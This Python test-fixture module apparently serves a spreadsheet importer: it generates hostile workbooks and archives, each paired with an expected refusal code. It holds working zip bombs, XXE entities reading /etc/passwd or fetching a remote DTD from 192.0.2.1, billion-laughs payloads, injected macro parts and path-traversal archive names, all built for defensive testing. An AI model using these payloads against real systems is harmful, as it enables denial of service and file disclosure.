"""Spreadsheets and archives made to do harm: name → (file name, content, code of the refusal)."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from waylight.foundation.exchange.writing import Page, workbook_bytes

Hostile = tuple[str, Callable[[], bytes], str]

SHEET = "xl/worksheets/sheet1.xml"
TAIL = b"</sheetData>"
DOCTYPE = b'<?xml version="1.0"?><!DOCTYPE a [%s]><worksheet><sheetData/></worksheet>'


def book() -> bytes:
    """A workbook that is what it says."""
    return workbook_bytes([Page("people", ("name", "size"), [("Amina", 4), ("Bruno", 1)])])


def zipped(*members: tuple[str, bytes]) -> bytes:
    """An archive of these members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return out.getvalue()


def with_part(name: str, content: bytes) -> Callable[[], bytes]:
    """A workbook with one part added, or put in the place of the one it had."""

    def made() -> bytes:
        with zipfile.ZipFile(io.BytesIO(book())) as archive:
            parts = {part: archive.read(part) for part in archive.namelist()}
        return zipped(*{**parts, name: content}.items())

    return made


def with_cells(cells: bytes) -> Callable[[], bytes]:
    """A workbook whose sheet ends in these rows."""

    def made() -> bytes:
        with zipfile.ZipFile(io.BytesIO(book())) as archive:
            sheet = archive.read(SHEET)
        return with_part(SHEET, sheet.replace(TAIL, cells + TAIL))()

    return made


def nested() -> bytes:
    """An archive in an archive in an archive: nobody looks into the inner ones."""
    inner = zipped(("a.csv", bytes(2_000_000)))
    for _ in range(5):
        inner = zipped(*((f"{number}.zip", inner) for number in range(10)))
    return inner


def overlapping() -> bytes:
    """Twenty names in the directory that all stand for the same packed bytes (a "better bomb")."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    plain = bytes(20_000_000)
    packed = packer.compress(plain) + packer.flush()
    crc = zlib.crc32(plain)
    sizes = struct.pack("<LLL", crc, len(packed), len(plain))
    local = b"PK\x03\x04" + struct.pack("<HHHHH", 20, 0, 8, 0, 0) + sizes
    local += struct.pack("<HH", 5, 0) + b"0.csv" + packed
    directory = b"".join(
        b"PK\x01\x02"
        + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 0)
        + sizes
        + struct.pack("<HHHHHLL", 6, 0, 0, 0, 0, 0, 0)
        + b"%02d.csv" % number
        for number in range(20)
    )
    end = struct.pack("<HHHHLLH", 0, 0, 20, 20, len(directory), len(local), 0)
    return local + directory + b"PK\x05\x06" + end


def lying() -> bytes:
    """An archive whose directory says that its part is small."""
    content = bytearray(zipped(("a.csv", bytes(400_000_000))))
    at = content.index(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<L", 1_000)
    return bytes(content)


def _rows(count: int) -> bytes:
    return b"".join(b'<row r="%d"><c><v>1</v></c></row>' % row for row in range(10, count))


def _million_columns() -> bytes:
    return b'<row r="9">' + b"<c><v>1</v></c>" * 1_000_000 + b"</row>"


EXTERNAL = b'<!ENTITY x SYSTEM "file:///etc/passwd">'
REMOTE = b'<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;'
LAUGHS = b'<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)

BOOKS: dict[str, Hostile] = {
    "a flat bomb": ("a.zip", lambda: zipped(("a.csv", bytes(400_000_000))), "too_large_inside"),
    "a bomb that is a sheet": ("a.xlsx", with_part(SHEET, bytes(60_000_000)), "too_large_inside"),
    "a nested bomb": ("a.zip", nested, "not_a_workbook"),
    "an overlapping bomb": ("a.zip", overlapping, "too_large_inside"),
    "a bomb that lies about its size": ("a.zip", lying, "damaged_file"),
    "ten thousand parts": (
        "a.zip",
        lambda: zipped(*((f"{n}.csv", b"") for n in range(10_000))),
        "too_large_inside",
    ),
    "an external entity": ("a.xlsx", with_part(SHEET, DOCTYPE % EXTERNAL), "damaged_workbook"),
    "a remote definition": ("a.xlsx", with_part(SHEET, DOCTYPE % REMOTE), "damaged_workbook"),
    "a billion laughs": ("a.xlsx", with_part(SHEET, DOCTYPE % LAUGHS), "damaged_workbook"),
    "an entity in the list of sheets": (
        "a.xlsx",
        with_part("xl/workbook.xml", DOCTYPE % EXTERNAL),
        "damaged_workbook",
    ),
    "an entity in the shared strings": (
        "a.xlsx",
        with_part("xl/sharedStrings.xml", DOCTYPE % EXTERNAL),
        "damaged_workbook",
    ),
    "a link to another file": (
        "a.xlsx",
        with_part("xl/externalLinks/externalLink1.xml", b"<externalLink/>"),
        "active_parts",
    ),
    "a connection to a database": (
        "a.xlsx",
        with_part("xl/connections.xml", b"<connections/>"),
        "active_parts",
    ),
    "an embedded program": (
        "a.xlsx",
        with_part("xl/embeddings/oleObject1.bin", OLE),
        "active_parts",
    ),
    "an ActiveX control": ("a.xlsx", with_part("xl/activeX/a.xml", b"<a/>"), "active_parts"),
    "macros": ("a.xlsx", with_part("xl/vbaProject.bin", b"x"), "macro_workbook"),
    "macros under another name": ("a.xlsx", with_part("xl/VBAPROJECT.BIN", b"x"), "macro_workbook"),
    "a name that says macros": ("a.xlsm", book, "macro_workbook"),
    "a million columns": ("a.xlsx", with_cells(_million_columns()), "too_many_cells"),
    "1.1 million rows": ("a.xlsx", with_cells(_rows(1_100_000)), "too_many_cells"),
    "one cell far away": (
        "a.xlsx",
        with_cells(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        "too_many_cells",
    ),
    "rows that go backwards": (
        "a.xlsx",
        with_cells(b'<row r="9"/><row r="9"/>'),
        "damaged_workbook",
    ),
    "the old format": ("a.xls", lambda: OLE, "old_excel_format"),
    "a password": (
        "a.xlsx",
        lambda: OLE + "EncryptedPackage".encode("utf-16-le"),
        "password_protected",
    ),
    "cut in the middle": ("a.xlsx", lambda: book()[: len(book()) // 2], "damaged_file"),
    "cut at the end": ("a.xlsx", lambda: book()[:-10], "damaged_file"),
    "something after its end": ("a.xlsx", lambda: book() + b"<script>" * 20_000, "damaged_file"),
    "something before its start": ("a.xlsx", lambda: b"%PDF-1.7\n" + book(), "not_a_workbook"),
    "a page called a workbook": ("a.xlsx", lambda: b"<html><script>1</script>", "not_a_workbook"),
    "a program called a workbook": ("a.xlsx", lambda: b"MZ" + bytes(600), "not_a_workbook"),
    "a script called a workbook": ("a.xlsx", lambda: b"#!/bin/sh\nid\n", "not_a_workbook"),
    "a workbook called a table": ("a.csv", book, "wrong_extension"),
    "an archive that climbs out": (
        "a.zip",
        lambda: zipped(("../../../tmp/people.csv", b"name\r\nAmina\r\n")),
        "",
    ),
    "an archive that starts at the root": (
        "a.zip",
        lambda: zipped(("/etc/people.csv", b"name\r\nAmina\r\n")),
        "",
    ),
    "one cell of 20 MB": ("a.csv", lambda: b'name\r\n"' + b"x" * 20_000_000 + b'"\r\n', ""),
    "a quotation mark that never ends": ("a.csv", lambda: b'name\r\n"' + b"x\r\n" * 100_000, ""),
    "null bytes": ("a.csv", lambda: b"na\0me\r\nAm\0ina\r\n", ""),
    "another encoding": ("a.csv", lambda: "name\r\nÅ".encode("utf-16"), ""),
    "300,000 separators": ("a.csv", lambda: b"a" + b"," * 3_000_000 + b"\r\n", ""),
    "a file of nothing": ("a.xlsx", lambda: b"", "empty_file"),
}
"""Where the code is empty the file may be opened: what it holds is then data, or faults."""
